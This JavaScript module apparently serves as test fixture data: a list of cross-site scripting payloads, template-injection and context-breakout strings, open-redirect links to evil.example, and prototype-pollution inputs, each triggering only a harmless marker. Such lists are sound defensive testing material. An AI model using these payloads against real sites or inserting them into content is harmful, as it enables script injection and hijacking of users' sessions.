// Texts that would run a script, become a link or change all objects, if anything took them for more than text.
const run = 'window.__xss=1';
export const payloads = [
  `<script>${run}</script>`, `<ScRiPt>${run}</sCrIpT>`, `<script src="data:text/javascript,${run}"></script>`,
  `<img src=x onerror="${run}">`, `<img src=x onerror=${run}>`, `<IMG SRC="javascript:${run}">`, `<img/src=x/onerror=${run}>`,
  `<svg onload="${run}">`, `<svg/onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${run}>">`,
  `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`, `<embed src="javascript:${run}">`, `<base href="javascript:${run}//">`,
  `<link rel=stylesheet href="javascript:${run}">`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<form action="javascript:${run}"><button>x</button></form>`, `<input autofocus onfocus="${run}">`, `<details open ontoggle="${run}">`,
  `<video><source onerror="${run}">`, `<audio src=x onerror="${run}">`, `<body onload="${run}">`, `<marquee onstart="${run}">`,
  `<a href="javascript:${run}">x</a>`, `<a href="jAvAsCrIpT:${run}">x</a>`, `<a href="java\tscript:${run}">x</a>`, `<a href="\u0001javascript:${run}">x</a>`,
  `<a href="data:text/html,<script>opener.__xss=1</script>">x</a>`, `<a href="vbscript:${run}">x</a>`, `<a href="//evil.example">x</a>`,
  `javascript:${run}`, `jAvAsCrIpT:${run}`, `java\nscript:${run}`, ` javascript:${run}`, `javascript&colon;${run}`, `&#106;avascript:${run}`,
  `data:text/html,<script>${run}</script>`, 'vbscript:msgbox(1)', 'https://evil.example/', '//evil.example/', 'mailto:a@evil.example',
  `[x](javascript:${run})`, `![x](x" onerror="${run})`, `<https://evil.example>`, 'www.evil.example',
  `" onmouseover="${run}" x="`, `' onmouseover='${run}' x='`, `"><img src=x onerror=${run}>`, `'><svg onload=${run}>`, `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`, `</style><script>${run}</script>`, `--><script>${run}</script>`, `]]><script>${run}</script>`,
  `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `<%= ${run} %>`, `#{${run}}`, `';${run};//`, `";${run};//`, `\`;${run};//`,
  `\u2028${run}\u2029`, `\u202e>tpircs<`, `\ufeff<script>${run}</script>`, `<scr\u0000ipt>${run}</script>`, `\ud83d`, `<template shadowrootmode=open><script>${run}</script></template>`,
  '__proto__', 'constructor', '{"__proto__":{"polluted":1}}', '__proto__[polluted]=1', 'constructor.prototype.polluted=1',
];
